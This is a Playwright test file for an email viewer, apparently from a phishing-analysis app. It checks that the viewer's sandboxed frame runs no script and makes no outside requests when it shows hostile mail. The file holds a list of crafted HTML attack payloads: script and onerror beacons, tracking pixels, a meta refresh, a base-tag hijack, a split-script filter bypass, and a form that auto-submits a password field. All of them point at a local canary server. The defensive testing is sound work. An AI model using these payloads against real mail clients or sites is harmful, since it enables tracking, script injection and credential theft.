import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createTestStore } from '../helpers/stores.js';
import { canary, launch, login, pageHits, serve, shot, storedIds, watchedPage, type Served } from './harness.js';

/**
 * Hostile content in real Chromium. Every HTML message of the demo scenario, and a set of messages built to
 * run scripts and load remote resources (aimed at a canary server on another port), is opened in the message
 * viewer: not one script may run and not one request may leave the app's origin.
 *
 * The canary is also the browser's proxy: a load aimed at any host lands on it rather than on the network, and
 * it is the only detector that sees the body frame's own requests (Playwright does not report a sandboxed srcdoc
 * frame's; the positive control shows both). `npm run eval -- ui` runs the same on 1,583 real phishing mails.
 *
 * One store engine only: what is under test is what Chromium does with the bodies; the body route's store
 * access runs on both engines in test/integration/http-messages.test.ts.
 */

function attacks(canaryUrl: string): { name: string; html: string }[] {
  const c = (what: string): string => `${canaryUrl}/${what}`;
  return [
    { name: 'script-beacon', html: `<p>hello</p><script>new Image().src='${c('script')}';fetch('${c('fetch')}')</script>` },
    { name: 'img-onerror', html: `<img src="x" onerror="new Image().src='${c('onerror')}'">` },
    { name: 'tracking-pixel', html: `<img src="${c('pixel.gif')}" width="1" height="1">` },
    { name: 'css-background', html: `<div style="background:url(${c('css-bg')})">x</div><style>body{background:url('${c('css-style')}')}@import url(${c('css-import')});</style>` },
    { name: 'link-stylesheet', html: `<link rel="stylesheet" href="${c('link.css')}"><p>x</p>` },
    { name: 'iframe-remote', html: `<iframe src="${c('iframe')}"></iframe>` },
    { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${c('refresh')}"><p>x</p>` },
    { name: 'svg-onload', html: `<svg onload="fetch('${c('svg')}')"><image href="${c('svg-image')}"/></svg>` },
    { name: 'object-embed', html: `<object data="${c('object')}"></object><embed src="${c('embed')}">` },
    { name: 'form-autofocus', html: `<form action="${c('form')}"><input autofocus onfocus="this.form.submit()" name="pw" type="password"></form>` },
    { name: 'base-hijack', html: `<base href="${c('base/')}"><img src="relative.png"><a href="x">x</a>` },
    { name: 'video-poster', html: `<video poster="${c('poster')}"><source src="${c('video')}"></video><audio src="${c('audio')}"></audio>` },
    { name: 'nested-script-split', html: `<scr<script>ipt>fetch('${c('split')}')</scr</script>ipt>` },
    { name: 'javascript-url', html: `<a href="javascript:fetch('${c('jsurl')}')">click</a>` },
  ];
}

function message(name: string, html: string, to: string): Buffer {
  return Buffer.from([
    'From: Attacker <a@attacker.example>', `To: ${to}`, `Subject: hostile ${name}`, 'Date: Tue, 14 Jul 2026 09:12:00 +0000',
    `Message-ID: <${name}@attacker.example>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', '', html, '',
  ].join('\r\n'));
}

async function upload(srv: Served, raw: Buffer): Promise<string> {
  const r = await srv.app.inject({ method: 'POST', url: '/api/v1/messages', headers: { authorization: `Bearer ${srv.adminToken}`, 'content-type': 'message/rfc822' }, payload: raw });
  assert.equal(r.statusCode, 200, r.body);
  return r.json<{ items: { id: string }[] }>().items[0]!.id;
}

test('hostile content: every HTML message of the demo and crafted attacks run no script and load nothing remote', async () => {
  const s = await createTestStore('sqlite');
  const trap = await canary();
  const { context, close } = await launch(undefined, [`--proxy-server=${trap.url}`]);
  let srv: Served | undefined;
  try {
    srv = await serve(s, { seed: 1, uploadAll: true });
    const to = `staff@${srv.scenario.orgs[0]!.domains[0]!}`;

    // Positive control: the same attacks in a plain page do reach the canary, so the detector is not blind; and so
    // does a remote image in a sandboxed srcdoc frame, through the proxy, which the page's request watcher misses.
    const control = await context.newPage();
    await control.setContent(attacks(trap.url).map((a) => a.html).join('\n') +
      `<iframe sandbox="" srcdoc="<img src='http://control.spearwatch-canary.test/frame.gif'>"></iframe>`);
    await control.waitForTimeout(500);
    await control.close();
    assert.ok(trap.hits.length > 0, 'the canary sees loads and scripts from an unprotected page');
    assert.ok(trap.hits.includes('http://control.spearwatch-canary.test/frame.gif'), 'the proxy brings a sandboxed frame’s remote load to the canary');
    trap.hits.length = 0;

    const crafted: string[] = [];
    for (const a of attacks(trap.url)) crafted.push(await upload(srv, message(a.name, a.html, to)));
    const bySha = await storedIds(srv);
    const htmlMessages = srv.scenario.messages.filter((m) => /content-type:\s*text\/html/i.test(m.raw.toString('latin1')));
    const demoHtml = htmlMessages.map((m) => bySha.get(m.sha256)).filter((id): id is string => id !== undefined);
    assert.ok(demoHtml.length > 50 && demoHtml.length === htmlMessages.length, `every demo HTML message is stored (${demoHtml.length} of ${htmlMessages.length})`);

    const { page, watch } = await watchedPage(context, srv.origin);
    const blockedScripts: string[] = [];
    page.on('console', (m) => {
      if (/Blocked script execution/i.test(m.text())) blockedScripts.push(m.text());
    });
    await login(page, srv.url, srv.admin);
    let opened = 0;
    for (const id of [...crafted, ...demoHtml]) {
      await page.goto(`${srv.url}#/messages/${id}`);
      await page.locator(`section[aria-labelledby="body-h"] p.muted`).waitFor();
      const frame = page.locator('iframe.body-frame');
      if (await frame.count() === 1) {
        assert.equal(await frame.getAttribute('sandbox'), '');
        await page.frameLocator('iframe.body-frame').locator('body').waitFor({ state: 'attached' });
      }
      if (opened === 9) {
        // the password-form attack, for a person to see what the viewer makes of it
        await page.frameLocator('iframe.body-frame').getByText('password field').waitFor();
        await shot(page, 'hostile-crafted-form');
      }
      opened++;
    }
    await page.waitForTimeout(500);
    assert.equal(opened, crafted.length + demoHtml.length);
    // Chromium's own service calls also cross the proxy; they count only if a message named their host.
    const shown = [...srv.scenario.messages.map((m) => m.raw.toString('latin1')), ...attacks(trap.url).map((a) => a.html)].join('\n').toLowerCase();
    assert.deepEqual(pageHits(trap.hits, (host) => shown.includes(host)), [], 'no request reached the canary');
    assert.deepEqual(watch.foreignRequests, [], 'no request left the app’s origin');
    assert.deepEqual(blockedScripts, [], 'no script even reached a message frame');
    assert.deepEqual(watch.pageErrors, []);
    assert.deepEqual(watch.cspViolations, []);
  } finally {
    await close();
    await trap.close();
    await srv?.close();
    await s.close();
  }
});

test('canary filter: Chromium’s own service calls are left out only when no message named their host', () => {
  const update = 'http://update.googleapis.com/service/update2/json?cup2key=ML-DSA-44-16:abc&cup2hreq=0123';
  const hits = [update, 'CONNECT accounts.google.com:443', 'http://update.googleapis.com/pixel.gif', 'http://evil.example/x.gif', 'CONNECT evil.example:443'];
  assert.deepEqual(pageHits(hits, () => false), ['http://update.googleapis.com/pixel.gif', 'http://evil.example/x.gif', 'CONNECT evil.example:443']);
  assert.deepEqual(pageHits(hits, (host) => host === 'update.googleapis.com'), [update, 'http://update.googleapis.com/pixel.gif', 'http://evil.example/x.gif', 'CONNECT evil.example:443']);
});
